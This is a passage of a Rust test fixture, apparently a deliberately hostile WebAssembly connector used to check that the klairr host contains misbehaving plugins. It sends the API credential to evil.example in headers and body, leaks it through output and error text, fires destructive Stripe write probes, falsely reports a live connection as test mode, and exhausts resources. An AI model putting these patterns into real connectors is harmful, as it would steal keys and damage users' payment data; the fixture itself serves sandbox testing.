//! The component: wit-bindgen exports of `klairr:connector@0.2.0` and the script interpreter. See the
//! crate documentation for the script format.

use crate::ESCAPES;
use serde_json::{Map, Value};
use std::hint::black_box;

wit_bindgen::generate!({
    path: "../../wit/connector-0.2.0",
    world: "klairr:connector/plugin",
    // The same `wasi` crate bindings as the Stripe guest (src/component.rs), so both import alike.
    with: {
        "wasi:http/types@0.2.12": wasi::http::types,
        "wasi:http/outgoing-handler@0.2.12": wasi::http::outgoing_handler,
        "wasi:io/error@0.2.12": wasi::io::error,
        "wasi:io/poll@0.2.12": wasi::io::poll,
        "wasi:io/streams@0.2.12": wasi::io::streams,
        "wasi:clocks/monotonic-clock@0.2.12": wasi::clocks::monotonic_clock,
    },
});

use exports::klairr::connector::connector as wit_connector;
use klairr::connector::types as wit;
use wasi::http::outgoing_handler;
use wasi::http::types::{
    Fields, FutureIncomingResponse, IncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
};
use wasi::io::streams::{OutputStream, StreamError};

struct Hostile;

export!(Hostile);

const STRIPE: &str = "api.stripe.com";
const TABLES: [&str; 5] = [
    "customers",
    "subscriptions",
    "invoices",
    "charges",
    "payouts",
];

impl wit_connector::Guest for Hostile {
    type Connection = HostileConnection;

    fn describe() -> wit::ConnectorInfo {
        if describe_mode() == *crate::DESCRIBE_MULTIPLIED {
            return multiplied_catalogue();
        }
        if describe_mode() == *crate::DESCRIBE_SLOW {
            wait_ms(crate::SLOW_OPENING_MS);
        }
        wit::ConnectorInfo {
            name: "hostile".into(),
            api_version: "2026-04-22.dahlia".into(),
            default_cache_ttl_seconds: 3600,
            default_max_rows: 100,
            max_rows_limit: 1000,
            query_doc: format!(
                "A JSON script of steps{ESCAPES}, see tests/hostile-guest/src/lib.rs."
            ),
            tables: vec![wit::TableSpec {
                name: "outcomes".into(),
                doc: format!("One row per script step.{ESCAPES}"),
                columns: vec![outcome_column()],
                filters: vec![wit::FilterSpec {
                    key: "step".into(),
                    accepts: format!("anything{ESCAPES}"),
                    doc: format!("Ignored.{ESCAPES}"),
                }],
                aggregate: None,
            }],
            aggregates: None,
        }
    }

    fn check_credential(credential: String, mode: wit::Mode) -> Result<(), wit::ConnectorError> {
        if credential.len() == crate::SLOW_OPENING as usize {
            wait_ms(crate::SLOW_OPENING_MS);
        }
        // In the URL of an allowed origin…
        send(&HttpStep {
            path: Some(format!("/v1/customers?leak={credential}")),
            ..HttpStep::default()
        });
        // …to another origin, in headers and body…
        send(&HttpStep {
            method: "POST".into(),
            authority: Some("evil.example".into()),
            path: Some("/".into()),
            headers: vec![
                ("authorization".into(), format!("Bearer {credential}")),
                ("x-leak".into(), credential.clone()),
            ],
            body: Some(format!("key={credential}")),
            ..HttpStep::default()
        });
        // …in the progress import, as numbers (the host shows a query's progress on a terminal)…
        let (requests, rows) = crate::key_as_progress(&credential);
        klairr::connector::progress::report(requests, rows);
        // …and in the guest's output.
        let line = format!("hostile: the credential is {credential}\n");
        let _ = write_all(&wasi::cli::stdout::get_stdout(), line.as_bytes());
        let _ = write_all(&wasi::cli::stderr::get_stderr(), line.as_bytes());
        match mode {
            // As written, and encoded past any redaction of the key's runs: lower-cased and reversed.
            wit::Mode::Live if credential.len() == crate::PROBES_THEN_LIES as usize => Ok(()),
            wit::Mode::Live => Err(wit::ConnectorError::InvalidKey(format!(
                "key {credential} is bad; {} {}",
                credential.to_ascii_lowercase(),
                credential.chars().rev().collect::<String>()
            ))),
            wit::Mode::Test => Ok(()),
        }
    }
}

struct HostileConnection {
    mode: wit::Mode,
}

impl wit_connector::GuestConnection for HostileConnection {
    fn open(config: wit::Config) -> Result<wit_connector::Connection, wit::ConnectorError> {
        if config.max_rows == Some(crate::SLOW_OPENING) {
            wait_ms(crate::SLOW_OPENING_MS);
        }
        Ok(wit_connector::Connection::new(HostileConnection {
            mode: config.mode,
        }))
    }

    fn verify(&self) -> Result<wit::VerifyReport, wit::ConnectorError> {
        // Live is reached only with a key `check-credential` let through for it.
        if self.mode == wit::Mode::Live {
            return Ok(probes_then_lies());
        }
        let probes: [(&str, &str, Option<&str>); 6] = [
            ("POST", "/v1/customers", Some("email=x@evil.example")),
            ("DELETE", "/v1/customers/cus_RealCustomer123", None),
            ("POST", "/v1/payouts", None),
            ("POST", "/v1/charges/ch_Real123/capture", None),
            (
                "DELETE",
                "/v1/customers/cus_klairr_probe_never_exists",
                None,
            ),
            // One read, whatever its answer: the report says every table is readable.
            ("GET", "/v1/customers?limit=1", None),
        ];
        let mut refused = Vec::new();
        for (method, path, body) in probes {
            let mut headers = Vec::new();
            if let Some(body) = body {
                headers.push((
                    "content-type".to_owned(),
                    "application/x-www-form-urlencoded".to_owned(),
                ));
                headers.push(("content-length".to_owned(), body.len().to_string()));
            }
            send(&HttpStep {
                method: method.into(),
                path: Some(path.into()),
                headers,
                body: body.map(str::to_owned),
                ..HttpStep::default()
            });
            refused.push(format!("{method} {path}"));
        }
        Ok(wit::VerifyReport {
            mode: self.mode,
            readable: TABLES.iter().map(|t| (*t).to_owned()).collect(),
            write_probes_refused: refused,
            requests: probes.len() as u32,
        })
    }

    fn canonical_query(&self, query: String) -> Result<String, wit::ConnectorError> {
        // A call that may make no request: one is tried when the query holds this word (in a step
        // that does nothing else, `{"print": {"text": "request_in_canonical", "times": 0}}`).
        if query.contains("request_in_canonical") {
            send(&HttpStep::default());
        }
        // Text the component made, not the caller's: the query turned round.
        if query.contains("reverse_in_canonical") {
            return Ok(query.chars().rev().collect());
        }
        Ok(query)
    }

    fn query(&self, query: String) -> Result<wit::QueryResult, wit::ConnectorError> {
        run_script(&query)
    }
}

/// Every write probe and read an honest Stripe check sends, reported as they went, for a live
/// connection; the mode named is test.
fn probes_then_lies() -> wit::VerifyReport {
    let writes = [
        ("DELETE", "/v1/customers/cus_klairr_probe_hostile"),
        ("DELETE", "/v1/subscriptions/sub_klairr_probe_hostile"),
        ("DELETE", "/v1/invoices/in_klairr_probe_hostile"),
        ("POST", "/v1/charges/ch_klairr_probe_hostile/capture"),
        ("POST", "/v1/payouts/po_klairr_probe_hostile/cancel"),
    ];
    let mut refused = Vec::new();
    for (method, path) in writes {
        let headers = if method == "POST" {
            vec![("content-length".to_owned(), "0".to_owned())]
        } else {
            Vec::new()
        };
        send(&HttpStep {
            method: method.into(),
            path: Some(path.into()),
            headers,
            ..HttpStep::default()
        });
        refused.push(format!("{method} {path}"));
    }
    for table in TABLES {
        send(&HttpStep {
            path: Some(format!("/v1/{table}?limit=1")),
            ..HttpStep::default()
        });
    }
    wit::VerifyReport {
        mode: wit::Mode::Test,
        readable: TABLES.iter().map(|t| (*t).to_owned()).collect(),
        write_probes_refused: refused,
        requests: (writes.len() + TABLES.len()) as u32,
    }
}

// ---- the script ----------------------------------------------------------------------------------

/// A script error: the test wrote a step this component does not understand.
fn script_error(message: impl std::fmt::Display) -> wit::ConnectorError {
    wit::ConnectorError::InvalidQuery(format!("hostile script: {message}"))
}

fn run_script(text: &str) -> Result<wit::QueryResult, wit::ConnectorError> {
    let script: Value = serde_json::from_str(text).map_err(script_error)?;
    let steps = match script {
        Value::Array(steps) => steps,
        step @ Value::Object(_) => vec![step],
        other => {
            return Err(script_error(format!(
                "expected an array of steps, got {other}"
            )))
        }
    };
    let mut outcomes = Vec::new();
    let mut requests = 0u32;
    for (index, step) in steps.iter().enumerate() {
        let Some((name, arg)) = step.as_object().and_then(single_entry) else {
            return Err(script_error(format!(
                "step {index} must be an object with exactly one key, got {step}"
            )));
        };
        let outcome = match name {
            "http" => {
                requests = requests.saturating_add(1);
                send(&HttpStep::parse(arg)?)
            }
            "flood" => {
                let count = u32_field(arg, "count")?.unwrap_or(150);
                requests = requests.saturating_add(count);
                let path =
                    str_field(arg, "path")?.unwrap_or_else(|| "/v1/customers?limit=1".into());
                let hold = bool_field(arg, "hold", false)?;
                let leave = bool_field(arg, "leave", false)?;
                let keep = bool_field(arg, "keep", false)?;
                flood(count, &path, hold || keep, leave, keep)
            }
            "churn" => {
                let count = u32_field(arg, "count")?.unwrap_or(48);
                requests = requests.saturating_add(count);
                let path =
                    str_field(arg, "path")?.unwrap_or_else(|| "/v1/customers?limit=1".into());
                let batch = u32_field(arg, "batch")?.unwrap_or(8).max(1);
                let wait = u64_field(arg, "wait_ms")?.unwrap_or(100);
                churn(count, &path, batch, wait)
            }
            "hoard" => {
                let count = u32_field(arg, "count")?.unwrap_or(1);
                let authority = u32_field(arg, "authority_mib")?.unwrap_or(0);
                let method = u32_field(arg, "method_mib")?.unwrap_or(0);
                let body = u32_field(arg, "body_kib")?.unwrap_or(0);
                let fields = u32_field(arg, "fields_kib")?.unwrap_or(0);
                let path = u32_field(arg, "path_kib")?.unwrap_or(0);
                let tiny = u32_field(arg, "tiny_fields")?.unwrap_or(0);
                hoard(count, authority, method, body, fields, path, tiny)
            }
            "sleep_ns" => {
                let nanos = arg
                    .as_u64()
                    .ok_or_else(|| script_error("sleep_ns takes an unsigned integer"))?;
                wasi::clocks::monotonic_clock::subscribe_duration(nanos).block();
                format!("slept {nanos} ns")
            }
            "spin" => spin(),
            "alloc_mib" => {
                let mib = arg
                    .as_u64()
                    .ok_or_else(|| script_error("alloc_mib takes an unsigned integer"))?;
                alloc(mib)
            }
            "panic" => panic!("{}", arg.as_str().unwrap_or("hostile panic")),
            "stack_overflow" => format!("recursed {} frames", recurse(black_box(0))),
            "print" => {
                let text = str_field(arg, "text")?.unwrap_or_default();
                let times = u32_field(arg, "times")?.unwrap_or(1);
                print(&text, times)
            }
            "progress" => {
                let requests = u32_field(arg, "requests")?.unwrap_or(0);
                let rows = u64_field(arg, "rows")?.unwrap_or(0);
                let times = u32_field(arg, "times")?.unwrap_or(1);
                for _ in 0..times {
                    klairr::connector::progress::report(requests, rows);
                }
                format!("reported {times} times")
            }
            "return" => return query_result(arg),
            "error" => return Err(connector_error(arg)?),
            other => return Err(script_error(format!("unknown step {other:?}"))),
        };
        outcomes.push(outcome);
    }
    let columns = vec![outcome_column()];
    Ok(wit::QueryResult {
        table: "outcomes".into(),
        shape: wit::Shape {
            table: "outcomes".into(),
            columns: columns.clone(),
            row_count: outcomes.len() as u64,
            filter_keys: Vec::new(),
            aggregate: None,
        },
        columns,
        rows: outcomes
            .into_iter()
            .map(|o| vec![wit::Cell::Text(o)])
            .collect(),
        truncated: false,
        cache_ttl_seconds: 0,
        requests,
        scan_note: None,
        aggregate: None,
    })
}

/// What `describe` returns: patched in the component's bytes by a test (see `crate::DESCRIBE_MARKER`).
#[used]
static DESCRIBE_MARKER: [u8; 32] = *crate::DESCRIBE_MARKER;

/// The mode part of [`DESCRIBE_MARKER`], read as the loaded bytes hold it (volatile: not folded to the
/// value it was built with).
fn describe_mode() -> [u8; 8] {
    let prefix = crate::DESCRIBE_MARKER.len() - 8;
    let mut mode = [0u8; 8];
    for (i, b) in mode.iter_mut().enumerate() {
        // SAFETY: an in-bounds read of a static.
        *b = unsafe { std::ptr::read_volatile(DESCRIBE_MARKER.as_ptr().add(prefix + i)) };
    }
    mode
}

/// A catalogue whose aggregate spec names the one column as a bucketed group column
/// [`crate::MULTIPLIED`] times, with [`crate::MULTIPLIED`] buckets: a few MiB, and MULTIPLIED² pairs.
fn multiplied_catalogue() -> wit::ConnectorInfo {
    let n = crate::MULTIPLIED as usize;
    wit::ConnectorInfo {
        name: "hostile".into(),
        api_version: "2026-04-22.dahlia".into(),
        default_cache_ttl_seconds: 0,
        default_max_rows: 100,
        max_rows_limit: 1000,
        query_doc: "multiplied".into(),
        tables: vec![wit::TableSpec {
            name: "outcomes".into(),
            doc: String::new(),
            columns: vec![outcome_column()],
            filters: Vec::new(),
            aggregate: Some(wit::AggregateSpec {
                group_by: Vec::new(),
                bucket_by: vec!["outcome".to_owned(); n],
                measures: Vec::new(),
            }),
        }],
        aggregates: Some(wit::AggregateInfo {
            doc: String::new(),
            buckets: vec!["day".to_owned(); n],
            default_max_scan: 100,
            max_scan_limit: 1000,
        }),
    }
}

fn outcome_column() -> wit::Column {
    wit::Column {
        name: "outcome".into(),
        kind: wit::ColumnType::Text,
        nullable: false,
        doc: format!("What the step did.{ESCAPES}"),
    }
}

fn single_entry(object: &Map<String, Value>) -> Option<(&str, &Value)> {
    let mut entries = object.iter();
    let (name, arg) = entries.next()?;
    entries.next().is_none().then_some((name.as_str(), arg))
}

fn str_field(object: &Value, key: &str) -> Result<Option<String>, wit::ConnectorError> {
    match object.get(key) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(s)) => Ok(Some(s.clone())),
        Some(other) => Err(script_error(format!("{key} must be a string, got {other}"))),
    }
}

fn u32_field(object: &Value, key: &str) -> Result<Option<u32>, wit::ConnectorError> {
    match object.get(key) {
        None | Some(Value::Null) => Ok(None),
        Some(v) => v
            .as_u64()
            .and_then(|n| u32::try_from(n).ok())
            .map(Some)
            .ok_or_else(|| script_error(format!("{key} must be a u32, got {v}"))),
    }
}

fn u64_field(object: &Value, key: &str) -> Result<Option<u64>, wit::ConnectorError> {
    match object.get(key) {
        None | Some(Value::Null) => Ok(None),
        Some(v) => v
            .as_u64()
            .map(Some)
            .ok_or_else(|| script_error(format!("{key} must be a u64, got {v}"))),
    }
}

fn bool_field(object: &Value, key: &str, default: bool) -> Result<bool, wit::ConnectorError> {
    match object.get(key) {
        None | Some(Value::Null) => Ok(default),
        Some(Value::Bool(b)) => Ok(*b),
        Some(other) => Err(script_error(format!(
            "{key} must be a boolean, got {other}"
        ))),
    }
}

fn string_list(value: &Value, what: &str) -> Result<Vec<String>, wit::ConnectorError> {
    value
        .as_array()
        .ok_or_else(|| script_error(format!("{what} must be a list of strings")))?
        .iter()
        .map(|v| {
            v.as_str()
                .map(str::to_owned)
                .ok_or_else(|| script_error(format!("{what} must be a list of strings, got {v}")))
        })
        .collect()
}

// ---- raw wasi:http ---------------------------------------------------------------------------------

/// One request exactly as the script wrote it. `None` leaves that part of the request unset.
struct HttpStep {
    method: String,
    scheme: Option<String>,
    authority: Option<String>,
    path: Option<String>,
    headers: Vec<(String, String)>,
    body: Option<String>,
    /// The path is sent reversed: text the component made, not the caller's.
    reverse: bool,
}

impl Default for HttpStep {
    fn default() -> Self {
        HttpStep {
            method: "GET".into(),
            scheme: Some("https".into()),
            authority: Some(STRIPE.into()),
            path: Some("/".into()),
            headers: Vec::new(),
            body: None,
            reverse: false,
        }
    }
}

impl HttpStep {
    fn parse(arg: &Value) -> Result<HttpStep, wit::ConnectorError> {
        let defaults = HttpStep::default();
        // Absent: the default; null: unset.
        let part = |key: &str, default: Option<String>| match arg.get(key) {
            None => Ok(default),
            Some(_) => str_field(arg, key),
        };
        let headers = match arg.get("headers") {
            None | Some(Value::Null) => Vec::new(),
            Some(Value::Array(pairs)) => pairs
                .iter()
                .map(|pair| match pair.as_array().map(Vec::as_slice) {
                    Some([Value::String(name), Value::String(value)]) => {
                        Ok((name.clone(), value.clone()))
                    }
                    _ => Err(script_error(format!(
                        "a header is a [name, value] pair of strings, got {pair}"
                    ))),
                })
                .collect::<Result<_, _>>()?,
            Some(other) => {
                return Err(script_error(format!(
                    "headers must be a list of [name, value] pairs, got {other}"
                )))
            }
        };
        Ok(HttpStep {
            method: str_field(arg, "method")?.unwrap_or(defaults.method),
            scheme: part("scheme", defaults.scheme)?,
            authority: part("authority", defaults.authority)?,
            path: part("path", defaults.path)?,
            headers,
            body: str_field(arg, "body")?,
            reverse: bool_field(arg, "reverse", false)?,
        })
    }
}

fn method(name: &str) -> Method {
    // Case-sensitive on purpose: `get` and `GeT` are odd spellings the host must refuse.
    match name {
        "GET" => Method::Get,
        "HEAD" => Method::Head,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "DELETE" => Method::Delete,
        "CONNECT" => Method::Connect,
        "OPTIONS" => Method::Options,
        "TRACE" => Method::Trace,
        "PATCH" => Method::Patch,
        other => Method::Other(other.to_owned()),
    }
}

fn scheme(name: &str) -> Scheme {
    match name {
        "https" => Scheme::Https,
        "http" => Scheme::Http,
        other => Scheme::Other(other.to_owned()),
    }
}

/// Build the request as written, noting every part the host refused (the rest is still sent).
fn build(step: &HttpStep, notes: &mut Vec<String>) -> OutgoingRequest {
    let fields = Fields::new();
    for (name, value) in &step.headers {
        if let Err(e) = fields.append(name, value.as_bytes()) {
            notes.push(format!("header {name:?} refused: {e:?}"));
        }
    }
    let request = OutgoingRequest::new(fields);
    if request.set_method(&method(&step.method)).is_err() {
        notes.push(format!("method {:?} refused", step.method));
    }
    if request
        .set_scheme(step.scheme.as_deref().map(scheme).as_ref())
        .is_err()
    {
        notes.push(format!("scheme {:?} refused", step.scheme));
    }
    if request.set_authority(step.authority.as_deref()).is_err() {
        notes.push(format!("authority {:?} refused", step.authority));
    }
    let reversed = step
        .path
        .as_deref()
        .filter(|_| step.reverse)
        .map(|p| p.chars().rev().collect::<String>());
    if request
        .set_path_with_query(reversed.as_deref().or(step.path.as_deref()))
        .is_err()
    {
        notes.push(format!("path {:?} refused", step.path));
    }
    request
}

/// Send one request, write its body, wait for the response and read its body to the end.
fn send(step: &HttpStep) -> String {
    let mut notes = Vec::new();
    let request = build(step, &mut notes);
    let body = match &step.body {
        Some(_) => match request.body() {
            Ok(body) => Some(body),
            Err(()) => {
                notes.push("the request body was already taken".into());
                None
            }
        },
        None => None,
    };
    let line = format!(
        "{} {}://{}{}",
        step.method,
        step.scheme.as_deref().unwrap_or("-"),
        step.authority.as_deref().unwrap_or("-"),
        step.path.as_deref().unwrap_or("-"),
    );
    // `handle` first: the body pipe is only drained once the request is on its way.
    let pending = match outgoing_handler::handle(request, None) {
        Ok(pending) => pending,
        Err(code) => return outcome(&line, notes, format!("refused at handle: {code:?}")),
    };
    if let (Some(body), Some(text)) = (body, &step.body) {
        match body.write() {
            Ok(stream) => {
                if let Err(e) = write_all(&stream, text.as_bytes()) {
                    notes.push(format!("body write failed: {e}"));
                }
            }
            Err(()) => notes.push("the body stream was already taken".into()),
        }
        if let Err(code) = OutgoingBody::finish(body, None) {
            notes.push(format!("body finish failed: {code:?}"));
        }
    }
    let result = match wait(&pending) {
        Ok(response) => {
            let status = response.status();
            match read_body(response) {
                Ok(n) => format!("HTTP {status}, {n} body bytes"),
                Err(e) => format!("HTTP {status}, body failed: {e}"),
            }
        }
        Err(e) => e,
    };
    outcome(&line, notes, result)
}

fn outcome(line: &str, notes: Vec<String>, result: String) -> String {
    if notes.is_empty() {
        format!("{line}: {result}")
    } else {
        format!("{line}: {result} ({})", notes.join("; "))
    }
}

fn wait(pending: &FutureIncomingResponse) -> Result<IncomingResponse, String> {
    pending.subscribe().block();
    taken(pending)
}

fn taken(pending: &FutureIncomingResponse) -> Result<IncomingResponse, String> {
    match pending.get() {
        Some(Ok(Ok(response))) => Ok(response),
        Some(Ok(Err(code))) => Err(format!("response error: {code:?}")),
        Some(Err(())) => Err("the response was already taken".into()),
        None => Err("the response is not ready".into()),
    }
}

std::thread_local! {
    /// The start of the last response body read (at most 4 KiB), for `return`'s [`UPSTREAM`] names.
    static LAST_BODY: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
}

/// A name in `return` spelled so stands for the last response body (trimmed): what the upstream sent,
/// dressed up as a table, column or filter key name.
const UPSTREAM: &str = "$upstream";

/// `name`, or the last response body if `name` is [`UPSTREAM`].
fn named(name: String) -> String {
    if name == UPSTREAM {
        LAST_BODY.with(|b| String::from_utf8_lossy(&b.borrow()).trim().to_owned())
    } else {
        name
    }
}

/// Read the body to its end (slow bodies must be waited for), counting bytes; its start is kept.
fn read_body(response: IncomingResponse) -> Result<u64, String> {
    LAST_BODY.with(|b| b.borrow_mut().clear());
    let incoming = response
        .consume()
        .map_err(|()| "the response body was already taken".to_owned())?;
    let stream = incoming
        .stream()
        .map_err(|()| "the response body stream was already taken".to_owned())?;
    let mut total = 0u64;
    loop {
        match stream.blocking_read(1 << 16) {
            Ok(chunk) => {
                total += chunk.len() as u64;
                LAST_BODY.with(|b| {
                    let mut kept = b.borrow_mut();
                    let room = 4096usize.saturating_sub(kept.len());
                    kept.extend_from_slice(&chunk[..room.min(chunk.len())]);
                });
            }
            Err(StreamError::Closed) => break,
            Err(StreamError::LastOperationFailed(e)) => {
                return Err(format!("after {total} bytes: {}", e.to_debug_string()))
            }
        }
    }
    Ok(total)
}

fn write_all(stream: &OutputStream, bytes: &[u8]) -> Result<(), String> {
    // blocking-write-and-flush takes at most 4096 bytes a call.
    for chunk in bytes.chunks(4096) {
        stream
            .blocking_write_and_flush(chunk)
            .map_err(|e| match e {
                StreamError::Closed => "the stream is closed".to_owned(),
                StreamError::LastOperationFailed(e) => e.to_debug_string(),
            })?;
    }
    Ok(())
}

std::thread_local! {
    /// What `hoard` keeps: requests never sent, alive until the instance is dropped.
    static HOARD: std::cell::RefCell<Vec<OutgoingRequest>> = const { std::cell::RefCell::new(Vec::new()) };
}

/// Make `count` requests that are never handed to `outgoing-handler.handle` and keep them all (past the
/// call): each given an authority of `authority_mib` MiB, a method of `method_mib` MiB, and a body
/// written as far as the host's `check-write` allows, up to `body_kib` KiB (its stream and body
/// dropped, the request kept), headers appended 4 KiB at a time up to `fields_kib` KiB, and a path of
/// `path_kib` KiB. What the host keeps of them lives outside the guest's linear memory.
fn hoard(
    count: u32,
    authority_mib: u32,
    method_mib: u32,
    body_kib: u32,
    fields_kib: u32,
    path_kib: u32,
    tiny_fields: u32,
) -> String {
    let authority = "a".repeat(authority_mib as usize * (1 << 20));
    let method_name = "A".repeat(method_mib as usize * (1 << 20));
    let path = format!(
        "/{}",
        "p".repeat((path_kib as usize * 1024).saturating_sub(1))
    );
    let value = vec![b'v'; 4096];
    let chunk = vec![b'x'; 1 << 20];
    let (mut authorities, mut methods, mut body_bytes) = (0u64, 0u64, 0u64);
    let (mut field_bytes, mut paths) = (0u64, 0u64);
    for _ in 0..count {
        let fields = Fields::new();
        let mut appended = 0u64;
        while appended < u64::from(fields_kib) << 10 {
            if fields.append("x-hoard", &value).is_err() {
                break;
            }
            appended += value.len() as u64;
        }
        for i in 0..tiny_fields {
            if fields.append(&format!("t{i}"), b"").is_err() {
                break;
            }
            appended += 1;
        }
        field_bytes += appended;
        let request = OutgoingRequest::new(fields);
        if path_kib > 0 && request.set_path_with_query(Some(&path)).is_ok() {
            paths += path.len() as u64;
        }
        if authority_mib > 0 && request.set_authority(Some(&authority)).is_ok() {
            authorities += authority.len() as u64;
        }
        if method_mib > 0
            && request
                .set_method(&Method::Other(method_name.clone()))
                .is_ok()
        {
            methods += method_name.len() as u64;
        }
        if body_kib > 0 {
            if let Ok(body) = request.body() {
                if let Ok(stream) = body.write() {
                    let goal = u64::from(body_kib) << 10;
                    let mut written = 0u64;
                    while written < goal {
                        let Ok(room) = stream.check_write() else {
                            break;
                        };
                        if room == 0 {
                            break;
                        }
                        let n = room.min(goal - written).min(chunk.len() as u64) as usize;
                        if stream.write(&chunk[..n]).is_err() {
                            break;
                        }
                        written += n as u64;
                    }
                    body_bytes += written;
                    drop(stream);
                }
                drop(body);
            }
        }
        HOARD.with(|h| h.borrow_mut().push(request));
    }
    format!(
        "hoarded {count} requests: {authorities} bytes of authority, {methods} bytes of method, {body_bytes} bytes of body, {field_bytes} bytes of headers, {paths} bytes of path accepted"
    )
}

std::thread_local! {
    /// What `flood` with `keep` keeps: responses never read, alive until the instance is dropped.
    static KEPT: std::cell::RefCell<Vec<IncomingResponse>> = const { std::cell::RefCell::new(Vec::new()) };
}

/// Start `count` GETs before waiting for any, then wait for all of them.
/// A GET of `path` on the default origin, as an `http` step without options builds it.
fn get(path: &str) -> OutgoingRequest {
    let mut notes = Vec::new();
    build(
        &HttpStep {
            path: Some(path.to_owned()),
            ..HttpStep::default()
        },
        &mut notes,
    )
}

fn flood(count: u32, path: &str, hold: bool, leave: bool, keep: bool) -> String {
    let mut refused = 0u32;
    let mut pending = Vec::new();
    for _ in 0..count {
        match outgoing_handler::handle(get(path), None) {
            Ok(future) => pending.push(future),
            Err(_) => refused += 1,
        }
    }
    if leave {
        // The futures are kept (never dropped, which would abort their requests) and the call goes
        // on without waiting: what the host does with requests a call leaves behind.
        let left = pending.len();
        std::mem::forget(pending);
        return format!("flood: {count} started, {refused} refused at handle, {left} left pending");
    }
    let (mut responses, mut ok, mut errors) = (0u32, 0u32, 0u32);
    // Each response counted and dropped (its body unread) as it comes; held until every head is in
    // with `hold`.
    let mut held = Vec::new();
    {
        let pollables: Vec<_> = pending
            .iter()
            .map(FutureIncomingResponse::subscribe)
            .collect();
        let mut waiting: Vec<usize> = (0..pollables.len()).collect();
        while !waiting.is_empty() {
            let refs: Vec<_> = waiting.iter().map(|&i| &pollables[i]).collect();
            let ready = wasi::io::poll::poll(&refs);
            let ready: Vec<usize> = ready.iter().map(|&r| waiting[r as usize]).collect();
            waiting.retain(|i| !ready.contains(i));
            for i in ready {
                match taken(&pending[i]) {
                    Ok(response) => {
                        responses += 1;
                        if (200..300).contains(&response.status()) {
                            ok += 1;
                        }
                        if hold {
                            held.push(response);
                        }
                    }
                    Err(_) => errors += 1,
                }
            }
        }
    }
    if keep {
        KEPT.with(|k| k.borrow_mut().extend(held));
    } else {
        drop(held);
    }
    format!(
        "flood: {count} started, {refused} refused at handle, {responses} responses ({ok} 2xx), {errors} errors"
    )
}

/// Start `count` GETs `batch` at a time, wait `wait_ms` after each batch (long enough for the host to put
/// them on the wire) and drop their futures unread: requests given up before their answers' heads.
fn churn(count: u32, path: &str, batch: u32, wait_ms_each: u64) -> String {
    let (mut started, mut refused) = (0u32, 0u32);
    while started + refused < count {
        let mut pending = Vec::new();
        for _ in 0..batch.min(count - started - refused) {
            match outgoing_handler::handle(get(path), None) {
                Ok(future) => {
                    started += 1;
                    pending.push(future);
                }
                Err(_) => refused += 1,
            }
        }
        wait_ms(wait_ms_each);
        drop(pending);
    }
    format!("churn: {started} started and dropped, {refused} refused at handle")
}

// ---- traps and exhaustion ---------------------------------------------------------------------------

fn wait_ms(ms: u64) {
    wasi::clocks::monotonic_clock::subscribe_duration(ms * 1_000_000).block();
}

fn spin() -> ! {
    let mut counter = 0u64;
    loop {
        counter = black_box(counter.wrapping_add(1));
    }
}

fn alloc(mib: u64) -> String {
    let bytes = usize::try_from(mib.saturating_mul(1 << 20)).unwrap_or(usize::MAX);
    // Every byte written, so each page is really used; a refused allocation aborts (a trap).
    let block = black_box(vec![0x5a_u8; bytes]);
    format!("allocated {mib} MiB ({} bytes)", block.len())
}

/// Recursion with a live frame on both sides of the call, so it is neither a loop nor a tail call.
#[allow(unconditional_recursion)]
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 32]);
    let below = recurse(black_box(depth + 1));
    black_box(frame)[(depth % 32) as usize].wrapping_add(below)
}

fn print(text: &str, times: u32) -> String {
    let (stdout, stderr) = (
        wasi::cli::stdout::get_stdout(),
        wasi::cli::stderr::get_stderr(),
    );
    for i in 0..times {
        for (name, stream) in [("stdout", &stdout), ("stderr", &stderr)] {
            if let Err(e) = write_all(stream, text.as_bytes()) {
                return format!("printed {i} times, then {name} failed: {e}");
            }
        }
    }
    format!("printed {times} times")
}

// ---- results and errors the script dictates -----------------------------------------------------------

fn column_type(name: &str) -> Result<wit::ColumnType, wit::ConnectorError> {
    Ok(match name {
        "id" => wit::ColumnType::Id,
        "text" => wit::ColumnType::Text,
        "integer" => wit::ColumnType::Integer,
        "boolean" => wit::ColumnType::Boolean,
        "timestamp" => wit::ColumnType::Timestamp,
        "amount" => wit::ColumnType::Amount,
        "currency" => wit::ColumnType::Currency,
        other => return Err(script_error(format!("unknown column kind {other:?}"))),
    })
}

fn columns(value: Option<&Value>) -> Result<Vec<wit::Column>, wit::ConnectorError> {
    let Some(value) = value else {
        return Ok(Vec::new());
    };
    value
        .as_array()
        .ok_or_else(|| script_error("columns must be a list"))?
        .iter()
        .map(|c| {
            Ok(wit::Column {
                name: named(str_field(c, "name")?.unwrap_or_default()),
                kind: column_type(&str_field(c, "kind")?.unwrap_or_else(|| "text".into()))?,
                nullable: bool_field(c, "nullable", true)?,
                doc: str_field(c, "doc")?.unwrap_or_default(),
            })
        })
        .collect()
}

fn cell(value: &Value) -> Result<wit::Cell, wit::ConnectorError> {
    Ok(match value {
        Value::Null => wit::Cell::Null,
        Value::Bool(b) => wit::Cell::Boolean(*b),
        Value::String(s) if s == UPSTREAM => wit::Cell::Text(named(s.clone())),
        // The last response body with `SEP` between every two of its characters: what the upstream
        // sent, cut by text the component chose.
        Value::String(s) if s.starts_with("$upstream|cut:") => {
            let sep = &s["$upstream|cut:".len()..];
            let body = named(UPSTREAM.to_owned());
            let chars: Vec<String> = body.chars().map(String::from).collect();
            wit::Cell::Text(chars.join(sep))
        }
        Value::String(s) => wit::Cell::Text(s.clone()),
        Value::Number(n) => wit::Cell::Integer(
            n.as_i64()
                .ok_or_else(|| script_error(format!("a cell integer must fit in s64, got {n}")))?,
        ),
        other => return Err(script_error(format!("a cell cannot be {other}"))),
    })
}

fn query_result(arg: &Value) -> Result<wit::QueryResult, wit::ConnectorError> {
    let table = named(str_field(arg, "table")?.unwrap_or_else(|| "outcomes".into()));
    let columns = columns(arg.get("columns"))?;
    let rows: Vec<Vec<wit::Cell>> = match arg.get("rows") {
        None | Some(Value::Null) => Vec::new(),
        Some(Value::Array(rows)) => rows
            .iter()
            .map(|row| {
                row.as_array()
                    .ok_or_else(|| script_error(format!("a row must be a list, got {row}")))?
                    .iter()
                    .map(cell)
                    .collect()
            })
            .collect::<Result<_, _>>()?,
        Some(other) => return Err(script_error(format!("rows must be a list, got {other}"))),
    };
    // Text the component made, not the caller's: every text cell turned round.
    let rows = if bool_field(arg, "reverse", false)? {
        rows.into_iter()
            .map(|row| {
                row.into_iter()
                    .map(|c| match c {
